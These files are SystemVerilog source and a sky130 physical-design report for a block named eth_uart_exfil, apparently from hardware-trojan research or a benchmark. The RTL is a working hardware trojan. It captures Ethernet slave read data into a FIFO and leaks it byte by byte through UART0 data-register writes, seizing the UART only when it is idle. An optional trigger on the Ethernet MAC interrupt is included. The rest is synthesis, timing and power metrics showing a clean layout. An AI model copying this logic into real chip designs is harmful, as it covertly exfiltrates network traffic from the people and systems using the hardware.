$ cat src/rtl/eth_uart_exfil_pkg.sv
// eth_uart_exfil_pkg: shared FSM state type and constants for the Ethernet-to-UART exfiltration block.
package eth_uart_exfil_pkg;
    typedef enum logic [1:0] {ST_IDLE, ST_WRITE, ST_GAP} state_t;
    localparam logic [31:0] UART_DR_ADDR_DEF = 32'h1600_0000;
    localparam int          GAP_CNT_W        = 8;
endpackage

$ cat src/rtl/eth_uart_exfil_fifo.sv
// exfil_fifo: 32-bit synchronous FIFO; a push into a full FIFO is accepted only alongside a pop.
module exfil_fifo
    import eth_uart_exfil_pkg::*;
#(
    parameter int DEPTH = 8
) (
    input  logic                    i_clk,
    input  logic                    i_rst_n,
    input  logic                    i_push,
    input  logic                    i_pop,
    input  logic [31:0]             i_din,
    output logic [31:0]             o_dout,
    output logic                    o_full,
    output logic                    o_empty,
    output logic [$clog2(DEPTH):0]  o_level
);
    localparam int AW = $clog2(DEPTH);

    logic [31:0]   r_mem [DEPTH];
    logic [AW-1:0] r_wr, r_rd;
    logic [AW:0]   r_level;
    logic          w_push_ok, w_pop_ok;

    assign o_full    = r_level == (AW+1)'(DEPTH);
    assign o_empty   = r_level == '0;
    assign o_level   = r_level;
    assign o_dout    = r_mem[r_rd];
    assign w_pop_ok  = i_pop & !o_empty;
    assign w_push_ok = i_push & (!o_full | w_pop_ok);

    always_ff @(posedge i_clk) begin
        if (w_push_ok) r_mem[r_wr] <= i_din;
    end

    always_ff @(posedge i_clk or negedge i_rst_n) begin
        if (!i_rst_n) begin
            r_wr    <= '0;
            r_rd    <= '0;
            r_level <= '0;
        end else begin
            r_wr    <= w_push_ok ? r_wr + 1'b1 : r_wr;
            r_rd    <= w_pop_ok ? r_rd + 1'b1 : r_rd;
            r_level <= r_level + (AW+1)'(w_push_ok) - (AW+1)'(w_pop_ok);
        end
    end
endmodule

$ cat src/rtl/eth_uart_exfil.sv
// eth_uart_exfil: buffers snooped Ethernet slave read data and drains it MSB-first as UART0 DR writes.
// Define EXFIL_ETHMAC_TRIGGER_EN to capture only acks that coincide with i_ethmac_int.
module eth_uart_exfil
    import eth_uart_exfil_pkg::*;
#(
    parameter int          DEPTH          = 8,
    parameter int          BYTES_PER_WORD = 4,
    parameter int          TX_GAP         = 16,
    parameter logic [31:0] UART_DR_ADDR   = UART_DR_ADDR_DEF
) (
    input  logic                    i_clk,
    input  logic                    i_rst_n,
    input  logic                    i_eth_s_wb_ack,
    input  logic [31:0]             i_eth_s_wb_dat_r,
    input  logic                    i_ethmac_int,
    input  logic                    i_uart_tx_full,
    input  logic                    i_host_uart_busy,
    input  logic                    i_uart_s_wb_ack,
    output logic                    o_control_uart,
    output logic [31:0]             o_uart_s_wb_adr,
    output logic                    o_uart_s_wb_we,
    output logic [31:0]             o_uart_s_wb_dat_w,
    output logic                    o_uart_s_wb_stb,
    output logic [$clog2(DEPTH):0]  o_fifo_level,
    output logic                    o_overflow
);
    localparam logic [1:0]           LAST_IDX = 2'(BYTES_PER_WORD - 1);
    localparam logic [GAP_CNT_W-1:0] GAP_END  = GAP_CNT_W'(TX_GAP);

    state_t               r_state, w_next;
    logic [GAP_CNT_W-1:0] r_gap;
    logic [1:0]           r_idx;
    logic [31:0]          r_shift, w_shift_nxt, w_head, r_adr, r_dat;
    logic                 r_ctrl, r_stb, r_we, r_ovf;
    logic                 w_push, w_pop, w_full, w_empty, w_clear, w_last, w_gap_done;
    logic                 w_start, w_advance, w_wr_nxt, w_ctrl_nxt;

`ifdef EXFIL_ETHMAC_TRIGGER_EN
    assign w_push = i_eth_s_wb_ack & i_ethmac_int;
`else
    logic w_unused;
    assign w_unused = i_ethmac_int;
    assign w_push   = i_eth_s_wb_ack;
`endif

    exfil_fifo #(.DEPTH(DEPTH)) u_fifo (
        .i_clk   (i_clk),
        .i_rst_n (i_rst_n),
        .i_push  (w_push),
        .i_pop   (w_pop),
        .i_din   (i_eth_s_wb_dat_r),
        .o_dout  (w_head),
        .o_full  (w_full),
        .o_empty (w_empty),
        .o_level (o_fifo_level)
    );

    assign w_clear    = !i_uart_tx_full & !i_host_uart_busy;
    assign w_last     = r_idx == LAST_IDX;
    assign w_gap_done = r_gap == GAP_END;
    assign w_start    = (r_state == ST_IDLE) & !w_empty & w_clear;
    assign w_advance  = (r_state == ST_GAP) & (w_next == ST_WRITE);
    assign w_pop      = (r_state == ST_WRITE) & i_uart_s_wb_ack & w_last;

    always_ff @(posedge i_clk or negedge i_rst_n) begin
        if (!i_rst_n) r_state <= ST_IDLE;
        else          r_state <= w_next;
    end

    always_comb begin
        w_next = r_state;
        case (r_state)
            ST_IDLE:  w_next = w_start ? ST_WRITE : ST_IDLE;
            ST_WRITE: w_next = i_uart_s_wb_ack ? ST_GAP : ST_WRITE;
            ST_GAP:   w_next = !w_gap_done ? ST_GAP : w_last ? ST_IDLE : w_clear ? ST_WRITE : ST_GAP;
            default:  w_next = ST_IDLE;
        endcase
    end

    // Outputs are derived from the next state so the registered bus matches the state it belongs to.
    always_comb begin
        w_shift_nxt = w_start ? w_head : w_advance ? {r_shift[23:0], 8'h00} : r_shift;
        w_wr_nxt    = w_next == ST_WRITE;
        w_ctrl_nxt  = w_wr_nxt | ((w_next == ST_GAP) & !((r_state == ST_GAP) & w_gap_done));
    end

    always_ff @(posedge i_clk or negedge i_rst_n) begin
        if (!i_rst_n) begin
            r_shift <= '0;
            r_idx   <= '0;
            r_gap   <= '0;
            r_ctrl  <= 1'b0;
            r_stb   <= 1'b0;
            r_we    <= 1'b0;
            r_adr   <= '0;
            r_dat   <= '0;
            r_ovf   <= 1'b0;
        end else begin
            r_shift <= w_shift_nxt;
            r_idx   <= w_start ? 2'd0 : w_advance ? r_idx + 2'd1 : r_idx;
            r_gap   <= (r_state != ST_GAP) ? '0 : w_gap_done ? r_gap : r_gap + 1'b1;
            r_ctrl  <= w_ctrl_nxt;
            r_stb   <= w_wr_nxt;
            r_we    <= w_wr_nxt;
            r_adr   <= w_wr_nxt ? UART_DR_ADDR : '0;
            r_dat   <= w_wr_nxt ? {24'h0, w_shift_nxt[31:24]} : '0;
            r_ovf   <= r_ovf | (w_push & w_full & !w_pop);
        end
    end

    assign o_control_uart    = r_ctrl;
    assign o_uart_s_wb_stb   = r_stb;
    assign o_uart_s_wb_we    = r_we;
    assign o_uart_s_wb_adr   = r_adr;
    assign o_uart_s_wb_dat_w = r_dat;
    assign o_overflow        = r_ovf;
endmodule
$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = eth_uart_exfil
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/eth_uart_exfil_pkg.sv /design/src/rtl/eth_uart_exfil_fifo.sv /design/src/rtl/eth_uart_exfil.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_UTILIZATION = 52
export CTS_CLUSTER_DIAMETER = 60
export DETAILED_ROUTE_END_ITERATION = 8
export HOLD_SLACK_MARGIN = 0.02
export PLACE_DENSITY = 0.76
export SLEW_MARGIN = 30
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
$ cat constraint.sdc
create_clock -name i_clk -period 4 [get_ports i_clk]
set_input_delay 0.4 -clock i_clk [delete_from_list [all_inputs] [get_ports i_clk]]
set_output_delay 0.4 -clock i_clk [all_outputs]
set_load 0.005 [all_outputs]
==> summary.md <==
| Metric | Value |
|---|---|
| Outcome | finished clean |
| Final Hold Fails | 0 |
| GRT overflow | 0 |
| Layout Skew | 0.0223 ns |
| FF+latch area | 0.00932 mm2 |
| Post-route DRC | 0 |
| Fin cells | 1184 |
| Netlist cell types | 48 |
| Worst Path Max Fanout | 19 |
| CP top delay family | simple AND/OR/NAND/NOR gates |
| Vias/cell | 5.65 |
| Row count | 57 |
| Compound-gate portion of the synthesized area | 4.49% |
| Worst hold path type | input pin to asynchronous set/reset pin |
| Worst Setup End Kind | flop |
| Core area | 0.0245 mm2 |
| CP cell instances | inv_1, ha_1, nand2b_1, o22ai_1, buf_4, nand2_1, nor2_4, buf_12 |
| Synthesized flop and latch total | 321 |
| Synth Flop Type | edfxtp_1 |
| Fmax | 385 MHz |
| Initial DRC Count | 614 |
| CTS Buffer Depth | 3 |
| Worst hold slack | 0.337 ns |
| Final setup TNS | 0 ns |
| Post-route clock period utilization | 64.9% |
| Post-CTS sizing | 0 |
| Synth Instances | 768 |
| Seq/Total Area, Yosys | 71.2% |
| DP Cell Count | 1125 |
| Largest family of logic cells by synthesized area | multiplexers |
| IO Pins | 111 |
| Critical path arrival | 2.87 ns |
| Reg2reg end | u_fifo.r_mem[5][3]$_DFFE_PP_ |
| WL per Instance | 20.6 um |
| Die height | 161 um |
| Area of the mapped netlist | 0.0131 mm2 |
| Area occupied by multi-input gates | 0.00335 mm2 |
| CTS tree | done |
| Pwr/cell area | 600 mW/mm2 |
| Avg Cell Area, Syn | 17.0 um2 |
| Simple-Gate Fraction of Synth Area | 4.66% |
| Post-Synth XOR/XNOR Area | 0.870% |
| # setup viols final | 0 |
| GPL Wtd Cong | 0.756 |
| Pwr Total | 8.98 mW |
| GRT Util Overall | 19.5% |
| Total CTS buffers | 31 |
| Worst Path Buf+Inv | 3 |
| Post-CTS Hold Buffers | 1 |
| Initial core utilization | 53.3% |
| Static leakage | 5.14 nW |
| Layout cells sized above 1 | 15.7% |
| DRT Wirelength | 24400 um |
| Vias in the first global route | 6755 |
| Req. time, crit path | 4.27 ns |
| YS warnings | 0 |
| Die Area | 0.0258 mm2 |
| Largest net degree at the start of global routing | 46 |
| Mux cell area share after synthesis | 12.3% |
| Worst-margin pin slew | 0.831 ns |
| Post-CTS Setup Bufs | 0 |
| Antenna fix cells | 0 |
| Max transition margin | 44.5% |
| Layout Nets | 886 |
| Port buffer count | 56 |
| Max IR drop VDD | 0.409 mV |
| Antenna Nets Post-Route | 0 |
| Via count | 6688 |
| Crit path largest cell delay | 0.59 ns |
| Post-DP HPWL | 13600 um |
| Crit start category | flop |
| Global-route wire length before repair | 38400 um |
| # fillers | 1750 |
| EDFF count, synth | 256 |
| Final Util | 61.0% |
| Initial antenna violation count | 0 |
| Reg2reg path depth | 8 |
| Clock transition at the registers of the reported paths | 0.06 ns |
| Root Buffer | clkbuf_16 |
| DRT Pass-1 Iters | 5 |
| Post-Synth Adder-Cell Area | 1.20% |
| Worst skew pair latency | 0.57 ns |
| Die Width | 161 um |
| FF-to-FF Start | u_fifo.o_level[2]$_DFF_PN0_ |
| Final Critical Period | 2.60 ns |
| Num Clock Sinks | 321 |
| Max Slew Vio Count | 0 |
| RSZ-0062 raised after global routing | no |
| CTS HTree Levels | 1 |
| Ys async rst share | 20.2% |
| Syn-to-layout area delta | 14.4% |
| Max_cap viols | 0 |
| R2R setup slack | 1.40 ns |
| Levels on crit path | 8 |
| Setup CP Type | flop to flop |
| Slowest cell on crit path | nor2_4 |
==> power breakdown <==
group / leakage (nW) / internal (mW) / switching, mW
Combinational: 1.47 / 0.543 / 0.777
Sequential: 3.12 / 4.27 / 0.248
Clock: 0.548 / 1.91 / 1.23
Total: 5.14 / 6.72 / 2.25
==> cell families (layout without fill, tap and decap cells) <==
family / Yosys count / after routing
muxes: 98 / 98
other: 1 / 53
and+or+nand+nor: 126 / 126
xor gates and xnor gates: 13 / 13
adders and majority gates: 12 / 12
AOI/OAI and AO/OA: 92 / 92
buffers and inverters: 105 / 145
DFF: 321 / 321
==> routing by layer <==
metal	GRT usage, %	part of all wire [%]
met3	3.02	5.5
met4	5.02	2.3
met5	0	0
met2	32.6	50
met1	27.0	42
==> sequential cells by signal, indices dropped and copies added (netlist names) <==
name,count
r_state,2
u_fifo.o_level,4
o_control_uart,1
o_uart_s_wb_adr,1
r_shift,32
u_fifo.r_rd,3
u_fifo.r_mem,256
o_uart_s_wb_dat_w,8
r_idx,2
o_overflow,1
r_gap,8
u_fifo.r_wr,3
==> cell usage in the layout (no fill, tap or decap), types with 7 or more instances in the layout <==
| cell | instances |
|---|---|
| mux4_2 | 39 |
| ha_1 | 11 |
| edfxtp_1 | 256 |
| nand3_1 | 15 |
| nand2_1 | 54 |
| mux2i_1 | 42 |
| a31oi_1 | 8 |
| o22ai_1 | 9 |
| o211ai_1 | 8 |
| inv_1 | 13 |
| xor2_1 | 7 |
| mux2_2 | 9 |
| conb_1 | 53 |
| clkbuf_16 | 31 |
| a211oi_1 | 8 |
| nor2_1 | 15 |
| a22oi_1 | 17 |
| buf_4 | 14 |
| clkdlybuf4s50_1 | 55 |
| mux4_1 | 8 |
| clkinv_2 | 7 |
| nand2b_1 | 7 |
| dfrtp_1 | 62 |
| a21oi_1 | 36 |
| nor2b_1 | 10 |
==> worst max path at each step <==
| stage | from | end | slack (ns) |
|---|---|---|---|
| after detailed placement | i_uart_s_wb_ack | u_fifo.r_mem[5][2]$_DFFE_PP_ | 1.13 |
| after floorplan | u_fifo.o_level[2]$_DFF_PN0_ | u_fifo.r_mem[7][0]$_DFFE_PP_ | 0.84 |
| after CTS | u_fifo.o_level[2]$_DFF_PN0_ | u_fifo.r_mem[5][3]$_DFFE_PP_ | 1.37 |
| final | u_fifo.o_level[2]$_DFF_PN0_ | u_fifo.r_mem[5][3]$_DFFE_PP_ | 1.40 |
| after global routing | u_fifo.o_level[2]$_DFF_PN0_ | u_fifo.r_mem[5][7]$_DFFE_PP_ | 1.23 |
| after global placement | i_uart_s_wb_ack | u_fifo.r_mem[5][2]$_DFFE_PP_ | 1.12 |
==> synth_stat cells, types with 9 or more instances <==
master	number	share of area, %
ha_1	11	1.1
clkbuf_1	11	0.32
nand2_1	54	1.5
mux2i_1	42	3.2
buf_2	10	0.38
nor2_1	21	0.60
nand3_1	15	0.57
buf_4	67	3.8
a22oi_1	17	0.98
inv_1	13	0.37
a21oi_1	36	1.4
nor2b_1	10	0.48
edfxtp_1	256	59
o22ai_1	9	0.43
mux4_2	39	6.7
dfrtp_1	65	12
mux2_2	9	0.77
==> worst register-to-register path, stage by stage (launching register included) <==
cell,delay [ns]
dfrtp_1,0.35
inv_1,0.08
ha_1,0.27
nand2b_1,0.16
o22ai_1,0.17
buf_4,0.18
nand2_1,0.23
nor2_4,0.59
buf_12,0.27
==> area by class of cell <==
cell class / instances / area share (%)
Sequential cell: 321 / 62.3
Multi-Input combinational cell: 394 / 22.4
Clock buffer: 40 / 5.74
Timing Repair Buffer: 74 / 4.88
Tap cell: 324 / 2.71
Clock inverter: 18 / 1.72
Inverter: 13 / 0.326
==> stage by stage <==
| stage | cell area [um2] | setup WS (ns) |
|---|---|---|
| 2_1_floorplan | 13300 | 0.843 |
| 3_3_place_gp | 13800 | 1.12 |
| 3_5_place_dp | 13800 | 1.13 |
| 4_1_cts | 15000 | 1.37 |
| 5_1_grt | 15000 | 1.23 |
| 6_report | 15000 | 1.40 |
Note: power is estimated with default switching activity, not from simulation.
